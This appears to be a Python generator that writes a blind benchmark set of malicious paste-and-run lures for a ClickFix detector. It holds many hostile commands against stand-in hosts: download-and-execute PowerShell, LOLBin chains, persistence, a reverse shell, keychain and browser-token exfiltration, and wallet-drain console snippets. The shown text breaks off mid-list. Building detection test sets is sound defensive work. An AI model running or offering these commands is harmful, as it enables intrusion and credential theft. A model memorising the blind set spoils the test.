"""Writes the eighth blind set, bench/blind/lures-8.jsonl and benign-8.jsonl (bench/blind/README.md,
"blind-8"). Deterministic: run it again and the files come out byte for byte the same.

    .venv/bin/python bench/blind/make_blind8.py

Written blind (the author had not read the rules, the LOLBin catalogue, the trust list, app/ or any
case file, misses list or verdict), weighted like the hold-out: lures as a crawl of live fake-CAPTCHA,
fake-error and fake-meeting pages would capture them, commands as vendor IOC files list them (with no
page), the short obfuscated one-liners other detectors' fixtures use, and scam, callback, ConsentFix
and device-code texts. Every text is our own; lures use reserved names only (*.test, *.invalid,
*.example, the documentation IPv4 ranges) and fictitious phone numbers in 555 blocks. Benign
installers are real projects' published commands with the page they are published on, none of them
in sets 1-7. Not imported by the app or the bench: the bench reads the jsonl files.
"""

from __future__ import annotations

from pathlib import Path

import blindkit
from blindkit import (
    b64,
    b64_utf16,
    carets,
    char_codes,
    gzip_b64,
    hex_str,
    ip_int,
    ps_concat,
    ps_format,
    xor_codes,
)

HERE = Path(__file__).resolve().parent
LURES_OUT = HERE / "lures-8.jsonl"
BENIGN_OUT = HERE / "benign-8.jsonl"

# ----------------------------------------------------------------------------------------------
# Lures: (technique, target, source, text, expect, platform)
# ----------------------------------------------------------------------------------------------

RUN = "run_dialog"
EXP = "explorer_bar"
TERM = "terminal"
CON = "browser_console"
UNK = "unknown"

LURES: list[tuple[str, str, str | None, str, str, str]] = []


def lure(
    technique: str,
    target: str,
    source: str | None,
    text: str,
    expect: str = "malicious",
    platform: str = "windows",
) -> None:
    LURES.append((technique, target, source, text, expect, platform))


def ioc(technique: str, text: str, target: str = RUN, platform: str = "windows") -> None:
    """A command as a vendor IOC file or report lists it: no page, only where it was pasted."""
    LURES.append((technique, target, None, text, "malicious", platform))


# Verification tails as the kits word them (new wordings; 13 languages and a few more).
TAILS = [
    "# Verification ID: 88-1927-ZK  (I am a human, not a bot)",
    "# ✔ Turnstile passed · session b41e77c2",
    "# Je confirme être un humain - identifiant 55-812",
    "# Ich bin ein Mensch - Prüfnummer 7741-B",
    "# Soy humano: código de verificación 30912",
    "# Sono un essere umano - ID verifica 6621",
    "# Eu sou humano - código de confirmação 1183",
    "# Ik ben een mens, verificatie-ID 2290",
    "# Jestem człowiekiem - kod weryfikacyjny 5830",
    "# Ben bir insanım - doğrulama kimliği 4471",
    "# Я не робот — код подтверждения 92-114",
    "# 私はロボットではありません 認証ID 7730",
    "# 我不是机器人 验证码 660415",
    "# أنا لست روبوتًا - رمز التحقق 3391",
    "# Jag är människa - verifierings-ID 8104",
    "# Nem vagyok robot - azonosító 4120",
    "# Cloud check ✓ browser integrity verified (id 3ac1)",
    "# Step 3 of 3 - press Enter to finish verification",
]

# --- (a) live pages: the Run box, PowerShell in spellings not used before ------------------------

PS_SHAPES = [
    ("ps-runbox-irm-semicolon-iex", "powershell -nop -w h -c \"$r=irm '{u}';iex $r\""),
    (
        "ps-runbox-iwr-usebasic-iex-pipe",
        "powershell.exe -W Hidden -NoProfile \"iwr '{u}' -UseBasicParsing | iex\"",
    ),
    (
        "ps-runbox-net-webclient-openread",
        "powershell -w 1 -c \"$s=(New-Object Net.WebClient).OpenRead('{u}');iex ([IO.StreamReader]::new($s)).ReadToEnd()\"",
    ),
    (
        "ps-runbox-invoke-restmethod-long",
        "powershell -NoProfile -WindowStyle Minimized -Command \"Invoke-RestMethod -Uri '{u}' | Invoke-Expression\"",
    ),
    (
        "ps-runbox-cmd-start-min",
        'cmd.exe /c start /min powershell -w h -ep bypass -c "iex(irm {u})"',
    ),
    (
        "ps-runbox-conhost-headless-irm",
        "conhost.exe --headless powershell -nop -c \"irm '{u}'|iex\"",
    ),
    (
        "ps-runbox-dot-source-scriptblock",
        "powershell -c \". ([scriptblock]::Create((iwr '{u}' -UseB).Content))\"",
    ),
    (
        "ps-runbox-httpclient-getstring",
        "powershell -w h -c \"iex ([Net.Http.HttpClient]::new().GetStringAsync('{u}').Result)\"",
    ),
    (
        "ps-runbox-outfile-temp-run",
        "powershell -w h -c \"iwr '{u}' -OutFile $env:TEMP\\chk.ps1; powershell -ep bypass -f $env:TEMP\\chk.ps1\"",
    ),
    ("ps-runbox-irm-foreach-iex", 'powershell -nop -c "irm {u} | % {{ iex $_ }}"'),
    (
        "ps-runbox-downloadfile-exe",
        'powershell -w h -c "(New-Object Net.WebClient).DownloadFile(\'{u}\',\\"$env:APPDATA\\svc.exe\\");start $env:APPDATA\\svc.exe"',
    ),
    (
        "ps-runbox-start-bits-run",
        "powershell -w h -c \"Start-BitsTransfer '{u}' $env:TEMP\\up.exe; & $env:TEMP\\up.exe\"",
    ),
]
RUNBOX_PAGES = [
    ("https://www.harbourview-dentistry.example/book", "https://verify.humangate-cdn.test/c1"),
    ("https://www.taqueria-sol-y-luna.example/menu", "https://198.51.100.16/rc.txt"),
    ("https://www.boulangerie-lefevre.example/commandes", "https://cf.robotfilter-edge.invalid/fr"),
    ("https://www.autohaus-brenner.example/angebote", "http://203.0.113.20:8443/de"),
    ("https://www.enoteca-bellavista.example/vini", "https://chk.humancheck-relay.test/it"),
    ("https://www.klinika-zdrowie.example/rejestracja", "https://192.0.2.91/pl.ps1"),
    ("https://www.cayir-otel.example/rezervasyon", "https://gate.insan-dogrula.test/tr"),
    ("https://forum.akvarium-mir.example/topic/881", "https://edge.captcha-pass.invalid/ru"),
    ("https://www.tsubaki-onsen.example/plan", "https://jp.verify-frontline.test/v"),
    ("https://www.lotus-teahouse.example/shop", "https://cdn.secure-humancheck.invalid/zh"),
    ("https://www.oud-amsterdam-b-and-b.example/kamers", "https://nl.botcheck-service.test/k"),
    ("https://www.alhambra-travel.example/offers", "http://198.51.100.17/ar"),
]
for i, (technique, shape) in enumerate(PS_SHAPES):
    for j in range(3):
        source, url = RUNBOX_PAGES[(i + 5 * j) % len(RUNBOX_PAGES)]
        tail = TAILS[(2 * i + 7 * j) % len(TAILS)]
        sep = ["  ", " " * 40, " "][j]
        lure(technique, RUN, source, shape.format(u=url) + sep + tail)

# Encoded PowerShell in the Run box, flags spelled in ways the kits rotate.
for flag, inner, source, tail in [
    (
        "-eNc",
        "iex(irm 'https://p.trustcheck-node.test/s')",
        "https://www.glasgow-guitars.example/",
        TAILS[0],
    ),
    (
        "-EncodedC",
        "iwr http://203.0.113.47/x.txt -UseB | iex",
        "https://www.saltmarsh-kayak.example/",
        TAILS[3],
    ),
    (
        "-encod",
        "$u='https://gate.visitor-pass.invalid/r';iex (New-Object Net.WebClient).DownloadString($u)",
        "https://www.kyoto-zakka.example/",
        TAILS[11],
    ),
    (
        "-ENCODEDCOMMAND",
        "Start-Process -WindowStyle Hidden powershell '-c irm https://m.cfverify-hub.test/z|iex'",
        "https://www.quinta-das-oliveiras.example/",
        TAILS[6],
    ),
    ("-E", "irm 198.51.100.12/p | iex", "https://www.maple-grove-hoa.example/news", TAILS[17]),
]:
    lure(
        "ps-encoded-runbox",
        RUN,
        source,
        f"powershell -w hidden -nop {flag} {b64_utf16(inner)} {tail}",
    )

# --- Run box: LOLBins and cmd chains from fake CAPTCHA and fake error pages ----------------------

LOLBIN_PAGES = [
    "https://www.fernwood-pottery.example/workshops",
    "https://www.costa-brava-surf.example/clases",
    "https://www.jardin-des-plantes-tours.example/visite",
    "https://www.praxis-dr-hartmann.example/termine",
    "https://www.trattoria-nonna.example/prenota",
    "https://www.lojas-aurora.example/promocoes",
    "https://www.fietsenmaker-delft.example/",
    "https://www.kwiaciarnia-stokrotka.example/",
    "https://www.sahil-balik.example/",
    "https://www.dacha-sad.example/forum",
]
LOLBINS = [
    ("mshta-https-hta", "mshta https://cdn.verify-widget.test/check.hta"),
    ("mshta-ip-path", "mshta http://198.51.100.18/c/verif"),
    (
        "mshta-vbscript-createobject",
        'mshta vbscript:CreateObject("WScript.Shell").Run("powershell -w h -c irm https://r.humanpath.invalid/a|iex",0)(window.close)',
    ),
    ("msiexec-quiet-url", "msiexec /i https://dl.update-checker.test/teams_fix.msi /qn"),
    ("msiexec-package-ip", "msiexec.exe /package http://203.0.113.21/pkg.msi /quiet"),
    (
        "rundll32-webdav-dll",
        "rundll32 \\\\files.davshare-cdn.test@SSL\\DavWWWRoot\\lib\\x.dll,Entry",
    ),
    (
        "regsvr32-scrobj-url",
        "regsvr32 /s /n /u /i:https://sct.verify-gateway.invalid/v.sct scrobj.dll",
    ),
    (
        "certutil-urlcache-run",
        "cmd /c certutil -urlcache -split -f https://files.capcheck.test/u.exe %TEMP%\\u.exe && %TEMP%\\u.exe",
    ),
    (
        "bitsadmin-transfer-run",
        "cmd /c bitsadmin /transfer j /download /priority high https://bits.verify-queue.test/a.exe %PUBLIC%\\a.exe & %PUBLIC%\\a.exe",
    ),
    (
        "curl-exe-bat",
        "cmd /c curl -s -o %TEMP%\\v.bat https://vb.robot-clear.invalid/v.bat && %TEMP%\\v.bat",
    ),
    (
        "curl-exe-tar-zip-run",
        "cmd /c cd %LOCALAPPDATA% && curl -sLo c.zip https://zip.update-lane.test/c.zip && tar -xf c.zip && start client32.exe",
    ),
    ("finger-pipe-cmd", "cmd /c finger verify@198.51.100.33 | cmd"),
    (
        "nslookup-txt-staging",
        "cmd /c for /f \"skip=4 tokens=*\" %a in ('nslookup -q=txt k.dnsverify.test') do %a",
    ),
    ("wscript-unc-js", "wscript \\\\203.0.113.22\\pub\\verify.js"),
    ("cscript-webdav-vbs", "cscript //nologo \\\\docs.webdav-relay.invalid@8080\\s\\check.vbs"),
    ("pushd-share-run", "cmd /c pushd \\\\198.51.100.21\\s && start setup.cmd"),
    ("net-use-share-run", "cmd /c net use Q: \\\\share.fix-drive.test\\d && Q:\\fix.exe"),
    (
        "forfiles-powershell",
        'forfiles /p C:\\Windows\\System32 /m notepad.exe /c "powershell -w h irm https://ff.verify-lab.test/s|iex"',
    ),
    ("explorer-url-hta", "explorer.exe https://verify.page-check.invalid/ok.hta"),
    (
        "schtasks-minute-ps",
        'schtasks /create /sc minute /mo 15 /tn OneDriveSync /tr "powershell -w h -c irm https://sync.cloud-refresh.test/t|iex" /f',
    ),
    (
        "reg-run-key-mshta",
        'reg add HKCU\\Software\\Microsoft\\Windows\\CurrentVersion\\Run /v Updater /d "mshta https://hta.autostart-svc.invalid/u" /f',
    ),
    (
        "defender-exclusion-then-run",
        'powershell -w h -c "Add-MpPreference -ExclusionPath $env:APPDATA; irm https://dx.exclusion-cdn.test/d | iex"',
    ),
    (
        "cmd-echo-vbs-write-run",
        'cmd /c echo CreateObject("WScript.Shell").Run "powershell -w h irm https://e.vbs-drop.test/q|iex",0 > %TEMP%\\q.vbs && %TEMP%\\q.vbs',
    ),
    (
        "msbuild-remote-proj",
        "C:\\Windows\\Microsoft.NET\\Framework64\\v4.0.30319\\msbuild.exe \\\\192.0.2.57\\b\\build.proj",
    ),
    (
        "installutil-downloaded",
        "cmd /c curl -so %TEMP%\\h.dll https://iu.verify-stack.invalid/h.dll && C:\\Windows\\Microsoft.NET\\Framework\\v4.0.30319\\InstallUtil.exe /U %TEMP%\\h.dll",
    ),
    ("odbcconf-rfs", "odbcconf /a {REGSVR \\\\share.odbc-fix.test\\x\\d.dll}"),
    ("cmstp-inf-url", "cmstp.exe /s /ns https://inf.vpn-profile.invalid/p.inf"),
    ("hh-chm-url", "hh.exe https://help.manual-viewer.test/guide.chm"),
]
for i, (technique, cmd) in enumerate(LOLBINS):
    lure(
        technique,
        RUN,
        LOLBIN_PAGES[i % len(LOLBIN_PAGES)],
        cmd + "   " + TAILS[(i * 5 + 1) % len(TAILS)],
    )

# --- Fake errors and fake meeting fixes (the page says: Win+R, Win+X, Terminal) ------------------

for technique, target, source, text in [
    (
        "fake-teams-audio-fix",
        RUN,
        "https://teams-join.meetroom-live.test/l/meetup-join/19",
        'powershell -w h -c "irm https://audio.drivers-patch.example/fix|iex"  # Teams audio device repair',
    ),
    (
        "fake-zoom-sdk-update",
        RUN,
        "https://zoom.webinar-room.invalid/j/8812",
        "cmd /c curl -sL https://sdk.zoomupdate-cdn.test/z.cmd -o %TEMP%\\z.cmd & %TEMP%\\z.cmd  :: Zoom SDK update 6.2",
    ),
    (
        "fake-meet-camera-fix",
        TERM,
        "https://meet.call-join.example/abc-defg-hij",
        "irm https://cam.webrtc-repair.test/m | iex   # Google Meet: camera blocked, run to reset permissions",
    ),
    (
        "fake-webex-plugin",
        RUN,
        "https://webex.eventhall.invalid/join/441",
        "msiexec /q /i https://plugin.conf-addon.test/webex_helper.msi",
    ),
    (
        "fake-chrome-font-error",
        RUN,
        "https://www.reisebuero-sonne.example/angebote",
        'powershell -w h -c "iwr https://font.renderfix.invalid/HoeflerText.ps1 -UseB|iex" # Font pack install',
    ),
    (
        "fake-onedrive-sync-error",
        RUN,
        "https://www.smith-and-lowe-law.example/client-docs",
        "cmd /c start /min mshta https://od.syncrepair.test/od.hta  REM OneDrive sync error 0x8004de40",
    ),
    (
        "fake-browser-update-winx",
        TERM,
        "https://www.weddingflorist-bristol.example/gallery",
        "iex(New-Object Net.WebClient).DownloadString('https://chromeupd.browser-fixer.test/u')  # Chrome update 131 - paste into Windows PowerShell (Admin)",
    ),
    (
        "fake-dns-error-fix",
        RUN,
        "https://www.cafe-mozart-salzburg.example/",
        'cmd /c ipconfig /flushdns & powershell -w h -c "irm http://198.51.100.219/dns|iex"  # DNS_PROBE_FINISHED_NXDOMAIN fix',
    ),
    (
        "fake-pdf-viewer-error",
        RUN,
        "https://www.notaria-gomez.example/documentos",
        'powershell -c "iwr https://pdfview.docreader-fix.invalid/r.exe -OutFile $env:TEMP\\r.exe; saps $env:TEMP\\r.exe"  # Abrir el documento',
    ),
    (
        "fake-captcha-wt",
        TERM,
        "https://www.ridgeline-outfitters.example/sale",
        'wt powershell -nop -c "irm https://wt.verifystep.test/a|iex"  ✅ Human check',
    ),
    (
        "fake-driver-update-winx",
        TERM,
        "https://www.lakeside-printing.example/support",
        "Start-Process powershell -Verb RunAs -ArgumentList '-w h -c irm https://drv.printfix-hub.invalid/p|iex'",
    ),
    (
        "fake-windows-activation",
        TERM,
        "https://www.pc-helpline.example/activate",
        "irm https://act.win-licence.test/get | iex  # Windows activation (official)",
    ),
]:
    lure(technique, target, source, text)

# --- FileFix: a path padded so the command sits off-screen in the Explorer address bar ------------

FILEFIX = [
    (
        "https://hr-portal.staffdocs.test/benefits",
        'powershell -w h -c "irm https://ff1.docstore-sync.invalid/b|iex"',
        "C:\\HR\\Benefits\\2027_Enrollment.pdf",
        " " * 70,
    ),
    (
        "https://www.kanzlei-voss.example/mandanten",
        'powershell -nop -c "iwr http://203.0.113.30/m -UseB|iex"',
        "C:\\Mandanten\\Vollmacht_2027.docx",
        "\u00a0" * 80,
    ),
    (
        "https://www.cabinet-comptable-roux.example/",
        "cmd /c curl -so %TEMP%\\f.cmd https://ff.compta-share.test/f.cmd&%TEMP%\\f.cmd",
        "C:\\Compta\\Bilan_annuel.xlsx",
        "\u2003" * 60,
    ),
    (
        "https://www.biuro-rachunkowe-nowak.example/",
        "mshta https://hta.faktury-podglad.invalid/p",
        "C:\\Faktury\\Faktura_VAT_1182.pdf",
        "\u3000" * 40,
    ),
    (
        "https://payroll.paydesk-online.test/slip",
        'powershell -w 1 -c "$x=irm https://ps.slipviewer.invalid/v;iex $x"',
        "\\\\fileserver\\Payroll\\Payslip_Nov.pdf",
        "\u2002" * 70,
    ),
    (
        "https://legal.contract-room.invalid/nda",
        "msiexec /qn /i https://nda.signpdf-tools.test/sign.msi",
        "C:\\Legal\\NDA_signed_final.pdf",
        "\t" * 30,
    ),
    (
        "https://www.studio-architetti-conti.example/progetti",
        'powershell -c "irm https://ff.progetti-cad.test/c|iex"',
        "C:\\Progetti\\Planimetria_piano2.dwg",
        "\u202f" * 75,
    ),
    (
        "https://www.imobiliaria-horizonte.example/contratos",
        "powershell -w h -c \"iex(irm 'https://ff.contratos-ver.invalid/x')\"",
        "C:\\Contratos\\Contrato_Locacao.pdf",
        " " * 50 + "\u200b" * 20,
    ),
    (
        "https://www.ik-danismanlik.example/bordro",
        'powershell -nop -c "irm 192.0.2.201/tr|iex"',
        "C:\\Bordro\\Maas_Bordrosu_Kasim.pdf",
        "\u00a0 " * 40,
    ),
    (
        "https://www.bureau-jansen.example/offerte",
        "rundll32 \\\\dav.offerte-share.test@SSL\\x\\o.dll,Run",
        "C:\\Offertes\\Offerte_2027.pdf",
        " " * 90,
    ),
]
for source, cmd, path, pad in FILEFIX:
    lure("filefix-padded-path", EXP, source, f"{cmd} #{pad}{path}")
lure(
    "filefix-search-ms-webdav",
    EXP,
    "https://www.hausverwaltung-lind.example/nebenkosten",
    "search-ms:query=Nebenkosten&crumb=location:\\\\198.51.100.64@SSL\\DavWWWRoot\\nk&displayname=Nebenkostenabrechnung",
)
lure(
    "filefix-webdav-lnk",
    EXP,
    "https://www.gemeinde-feld.example/formulare",
    "\\\\dav.formulare-amt.test@SSL\\DavWWWRoot\\Antrag_2027.pdf.lnk",
)

# --- macOS: paste into Terminal (AMOS/Odyssey-style pages) ---------------------------------------


def mac(technique: str, source: str, text: str, expect: str = "malicious") -> None:
    lure(technique, TERM, source, text, expect, "macos")


for technique, source, text in [
    (
        "mac-curl-bash-fake-app",
        "https://www.get-noteflow-app.example/download/mac",
        "curl -fsSL https://dl.noteflow-cdn.test/install.sh | bash",
    ),
    (
        "mac-bash-c-curl-fake-vpn",
        "https://www.swiftvpn-pro.example/mac",
        '/bin/bash -c "$(curl -fsSL https://mac.swiftvpn-files.invalid/setup)"',
    ),
    (
        "mac-base64-curl-decode",
        "https://www.macfixer-tools.example/cleanup",
        f"echo '{b64('curl -s https://cl.mac-cleaner.test/c.sh | bash')}' | base64 -D | bash",
    ),
    (
        "mac-base64-decode-zsh",
        "https://www.design-assets-free.example/fonts",
        f"echo {b64('curl -fsSL http://198.51.100.188/f | zsh')} | base64 --decode | zsh",
    ),
    (
        "mac-osascript-password-dialog",
        "https://www.creator-studio-beta.example/invite",
        'osascript -e \'set p to text returned of (display dialog "macOS needs your password to continue" default answer "" with hidden answer)\' -e \'do shell script "curl -d " & p & " https://pw.mac-helper.invalid/c"\'',
    ),
    (
        "mac-curl-output-xattr-open",
        "https://www.pixelcut-editor.example/mac",
        "curl -so /tmp/PixelCut.zip https://dl.pixel-release.test/pc.zip && unzip -oq /tmp/PixelCut.zip -d /tmp && xattr -dr com.apple.quarantine /tmp/PixelCut.app && open /tmp/PixelCut.app",
    ),
    (
        "mac-fake-homebrew-lookalike",
        "https://brew-sh.install-guide.example/",
        '/bin/bash -c "$(curl -fsSL https://raw.brewinstall-mirror.test/HEAD/install.sh)"',
    ),
    (
        "mac-fake-wallet-app",
        "https://www.trezor-suite-mac.example/",
        "curl -sL https://suite.wallet-release.invalid/mac.sh | sudo bash",
    ),
    (
        "mac-fake-ai-desktop",
        "https://www.claude-desktop-download.example/",
        "curl -fsSL https://cdn.ai-desktop-builds.test/i | sh",
    ),
    (
        "mac-fake-dev-sdk",
        "https://www.xcode-helper-tools.example/",
        'zsh -c "$(curl -s http://203.0.113.114/xc.sh)"',
    ),
    (
        "mac-launchagent-plist",
        "https://www.battery-optimizer-mac.example/",
        "curl -so ~/Library/LaunchAgents/com.apple.sysmon.plist https://la.batteryopt.invalid/p && launchctl load ~/Library/LaunchAgents/com.apple.sysmon.plist",
    ),
    (
        "mac-keychain-dump-post",
        "https://www.mac-security-scan.example/scan",
        "security dump-keychain -d login.keychain-db > /tmp/k.txt; curl -F f=@/tmp/k.txt https://up.scan-reports.test/u",
    ),
    (
        "mac-chrome-profile-exfil",
        "https://www.sync-fix-mac.example/chrome",
        "zip -qr /tmp/c.zip ~/Library/Application\\ Support/Google/Chrome/Default && curl -T /tmp/c.zip https://sync.profile-backup.invalid/",
    ),
    (
        "mac-dscl-password-check",
        "https://www.icloud-storage-full.example/fix",
        'read -s -p \'Password: \' P; dscl . -authonly "$USER" "$P" && curl -s -d "u=$USER&p=$P" https://ic.storage-repair.test/v',
    ),
    (
        "mac-gzip-base64-pipe",
        "https://www.codec-pack-mac.example/",
        f"echo '{gzip_b64('curl -s https://cd.codec-mac.invalid/x | bash')}' | base64 -d | gunzip | sh",
    ),
    (
        "mac-osascript-do-shell-admin",
        "https://www.macos-update-center.example/15-2",
        "osascript -e 'do shell script \"curl -s https://upd.macpatch-svc.test/p | bash\" with administrator privileges'",
    ),
    (
        "mac-nohup-background",
        "https://www.screen-recorder-mac.example/",
        'nohup bash -c "$(curl -fsSL https://rec.capture-dl.invalid/r)" >/dev/null 2>&1 &',
    ),
    (
        "mac-meeting-fix-terminal",
        "https://meet.partner-call.invalid/r/4477",
        "curl -s https://zm.audio-fix-mac.test/fix.sh | bash  # Zoom: microphone not detected",
    ),
    (
        "mac-fake-cloudflare-verify",
        "https://www.mountain-cabins-rent.example/",
        "curl -fsSL http://192.0.2.177/mv | bash  # Cloudflare macOS verification 22-40",
    ),
    (
        "mac-python-exec-url",
        "https://www.ml-notebook-tools.example/setup",
        "python3 -c \"import urllib.request as u;exec(u.urlopen('https://py.nb-setup.test/s').read())\"",
    ),
    (
        "mac-fake-github-issue-fix",
        "https://github-fix.devhelp-board.example/issue/2931",
        "curl -sSfL https://gh.patch-scripts.invalid/fix-ssl.sh | sudo sh",
    ),
    (
        "mac-ditto-unzip-open",
        "https://www.tradingview-desktop-mac.example/",
        "curl -sLo /tmp/tv.zip https://dl.charting-app.test/tv.zip; ditto -x -k /tmp/tv.zip /Applications; open /Applications/TradingView.app",
    ),
    (
        "mac-curl-hidden-binary",
        "https://www.obs-plugins-free.example/mac",
        "curl -so /tmp/.helper https://bin.plugin-hub.invalid/h && chmod +x /tmp/.helper && /tmp/.helper",
    ),
    (
        "mac-fake-interview-npm",
        "https://careers.web3-labs-hiring.example/task",
        "git clone https://git.interview-task.test/dex-frontend && cd dex-frontend && npm i && npm start",
    ),
]:
    mac(technique, source, text)

# --- Linux lures ---------------------------------------------------------------------------------


def nix(technique: str, source: str, text: str, expect: str = "malicious") -> None:
    lure(technique, TERM, source, text, expect, "linux")


for technique, source, text in [
    (
        "linux-wget-sudo-bash-fake-driver",
        "https://www.nvidia-linux-fix.example/",
        "wget -qO- https://drv.gpu-patch.test/n.sh | sudo bash",
    ),
    (
        "linux-bash-process-subst",
        "https://forum.linux-gaming-help.example/t/991",
        "sudo bash <(curl -s http://198.51.100.42/fix)",
    ),
    (
        "linux-base64-bash",
        "https://www.selfhost-tips.example/docker-fix",
        f"echo {b64('curl -s https://x.dockfix.invalid/d | sh')} | base64 -d | bash",
    ),
    (
        "linux-devshm-binary",
        "https://www.miner-config-gen.example/",
        "curl -so /dev/shm/.k https://b.cfg-gen.test/k && chmod 755 /dev/shm/.k && /dev/shm/.k &",
    ),
    (
        "linux-crontab-persist",
        "https://www.vps-speedup.example/guide",
        "(crontab -l; echo '*/10 * * * * curl -s https://c.vps-tune.invalid/t | sh') | crontab -",
    ),
    (
        "linux-bashrc-append",
        "https://www.shell-colour-themes.example/install",
        "echo 'curl -s https://th.term-theme.test/u | bash' >> ~/.bashrc",
    ),
    (
        "linux-dev-tcp-shell",
        "https://www.ctf-warmup.example/level3",
        "bash -i >& /dev/tcp/203.0.113.90/4444 0>&1",
    ),
    (
        "linux-ssh-key-plant",
        "https://www.server-support-desk.example/ticket",
        "mkdir -p ~/.ssh && curl -s https://k.support-keys.invalid/id.pub >> ~/.ssh/authorized_keys",
    ),
    (
        "linux-systemd-user-unit",
        "https://www.sync-daemon-linux.example/",
        "curl -so ~/.config/systemd/user/sync.service https://u.sync-units.test/s && systemctl --user enable --now sync.service",
    ),
    (
        "linux-python-pipe",
        "https://www.ai-agent-setup.example/linux",
        "curl -s https://ag.agent-bootstrap.invalid/b.py | python3 -",
    ),
    (
        "linux-fake-interview-repo",
        "https://jobs.defi-startup-careers.example/assignment",
        "git clone https://git.takehome-repo.test/wallet-ui && cd wallet-ui && yarn && yarn dev",
    ),
    (
        "linux-sudoers-nopasswd",
        "https://www.linux-perf-guide.example/",
        'echo "$USER ALL=(ALL) NOPASSWD:ALL" | sudo tee -a /etc/sudoers && curl -s https://p.perf-guide.invalid/p | sudo sh',
    ),
    (
        "linux-ld-preload",
        "https://www.game-fps-boost.example/",
        "curl -so /tmp/libfps.so https://l.fps-lib.test/libfps.so && echo /tmp/libfps.so | sudo tee /etc/ld.so.preload",
    ),
    (
        "linux-curl-k-insecure-sh",
        "https://www.homelab-scripts.example/",
        "curl -ks https://192.0.2.20/setup.sh | sudo -E sh",
    ),
]:
    nix(technique, source, text)

JS_GEN = 'fetch("https://r.gen-relay.test/c",{method:"POST",body:document.cookie})'
JS_GIFT = 'fetch("https://s.gift-relay.invalid/k").then(r=>r.text()).then(eval)'
JS_JA = 'fetch("https://ja.obf-relay.test/j").then(r=>r.text()).then(eval)'

# --- Browser console: Discord/Telegram "verification", wallet drainers, page takeovers -----------


def con(technique: str, source: str, text: str, expect: str = "malicious") -> None:
    lure(technique, CON, source, text, expect, "browser")


for technique, source, text in [
    (
        "console-discord-token-verify",
        "https://discord-verify.modbot-portal.example/",
        "let m;webpackChunkdiscord_app.push([[Symbol()],{},r=>{m=Object.values(r.c)}]);let t=m.find(x=>x?.exports?.default?.getToken).exports.default.getToken();fetch('https://t.botcheck-relay.test/t',{method:'POST',body:t})",
    ),
    (
        "console-telegram-session-export",
        "https://web-telegram-verify.safeguard-bot.example/",
        "fetch('https://tg.session-sync.invalid/s',{method:'POST',body:JSON.stringify(localStorage)})",
    ),
    (
        "console-fetch-eval",
        "https://www.nft-mint-pass.example/mint",
        "fetch('https://js.mint-helper.test/m.js').then(r=>r.text()).then(eval)",
    ),
    (
        "console-script-src-inject",
        "https://www.airdrop-claim-portal.example/",
        "var s=document.createElement('script');s.src='https://cdn.claim-widget.invalid/c.js';document.head.appendChild(s)",
    ),
    ("console-eval-atob", "https://www.free-robux-gen.example/", f"eval(atob('{b64(JS_GEN)}'))"),
    (
        "console-wallet-send-all",
        "https://www.staking-rewards-boost.example/",
        "ethereum.request({method:'eth_sendTransaction',params:[{from:ethereum.selectedAddress,to:'0x000000000000000000000000000000000000dEaD',value:'0x4563918244F40000'}]})",
    ),
    (
        "console-wallet-permit-sign",
        "https://www.token-migration-v2.example/",
        "ethereum.request({method:'eth_signTypedData_v4',params:[ethereum.selectedAddress,JSON.stringify({primaryType:'Permit',message:{spender:'0x1111111111111111111111111111111111111111',value:'115792089237316195423570985008687907853269984665640564039457584007913129639935'}})]})",
    ),
    (
        "console-function-constructor",
        "https://www.instagram-followers-free.example/",
        "new Function(await (await fetch('https://f.follow-boost.invalid/f')).text())()",
    ),
    (
        "console-dynamic-import",
        "https://www.minecraft-skins-hub.example/",
        "import('https://m.skin-loader.test/s.mjs')",
    ),
    (
        "console-fromcharcode-eval",
        "https://www.steam-gift-claim.example/",
        f"eval(String.fromCharCode({char_codes(JS_GIFT)}))",
    ),
    (
        "console-cookie-beacon",
        "https://www.roblox-verify-age.example/",
        "navigator.sendBeacon('https://b.age-verify.test/c', document.cookie + '|' + JSON.stringify(localStorage))",
    ),
    (
        "console-xhr-eval",
        "https://www.coupon-unlocker.example/",
        "x=new XMLHttpRequest;x.open('GET','https://x.coupon-js.invalid/u',false);x.send();eval(x.responseText)",
    ),
]:
    con(technique, source, text)

# --- URL-only lures behind a verification tail (the page asks to paste an address) ---------------

lure(
    "url-hta-run-box",
    RUN,
    "https://www.almond-tree-cafe.example/",
    "https://hta.verify-point.test/robot.hta  " + TAILS[4],
)
lure(
    "url-ps1-explorer",
    EXP,
    "https://www.bergsport-huber.example/",
    "https://ps.verify-path.invalid/check.ps1 " + TAILS[3],
)

# --- (b) commands as IOC files and reports list them: no page ------------------------------------

for technique, text, target, platform in [
    (
        "ioc-ps-irm-iex",
        'powershell -w h -c "irm https://ioc1.kt-stage.test/a | iex"',
        RUN,
        "windows",
    ),
    (
        "ioc-ps-iwr-iex-ip",
        'powershell -nop -c "iex (iwr http://198.51.100.22/p.txt -UseB)"',
        RUN,
        "windows",
    ),
    (
        "ioc-ps-webclient",
        "powershell.exe -ExecutionPolicy Bypass -w hidden -c \"IEX(New-Object Net.WebClient).DownloadString('https://dl.lumma-ioc.invalid/s.ps1')\"",
        RUN,
        "windows",
    ),
    (
        "ioc-ps-encoded",
        f"powershell -w h -e {b64_utf16('iex(irm https://enc.vidar-stage.test/v)')}",
        RUN,
        "windows",
    ),
    ("ioc-mshta-url", "mshta.exe https://clearfake-node.invalid/load.hta", RUN, "windows"),
    ("ioc-mshta-ip", "mshta http://203.0.113.199/", RUN, "windows"),
    ("ioc-msiexec-url", "msiexec.exe /i https://msi.darkgate-ioc.test/upd.msi /qn", RUN, "windows"),
    (
        "ioc-rundll32-webdav",
        "rundll32.exe \\\\198.51.100.24@80\\share\\p.dll,DllRegisterServer",
        RUN,
        "windows",
    ),
    ("ioc-finger", "cmd /c finger gc@192.0.2.82 | cmd", RUN, "windows"),
    (
        "ioc-kongtuke-device",
        'powershell -w h -c "$d=$env:COMPUTERNAME;iex(irm \\"https://kt.js-track.invalid/js.php?device=$d\\")"',
        RUN,
        "windows",
    ),
    (
        "ioc-netsupport-zip",
        'powershell -w h -c "iwr https://ns.remote-client.test/c.zip -OutFile $env:APPDATA\\c.zip;Expand-Archive $env:APPDATA\\c.zip $env:APPDATA\\cl -Force;start $env:APPDATA\\cl\\client32.exe"',
        RUN,
        "windows",
    ),
    (
        "ioc-lumma-start-min",
        'cmd /c start /min powershell -w h -c "irm http://203.0.113.23/lu | iex"',
        RUN,
        "windows",
    ),
    (
        "ioc-castleloader-curl-pipe",
        "cmd /c curl -s https://cl.castle-stage.invalid/l | powershell -",
        RUN,
        "windows",
    ),
    (
        "ioc-latrodectus-msiexec-ps",
        'powershell -c "msiexec /i https://lt.msi-stage.test/a.msi /qn"',
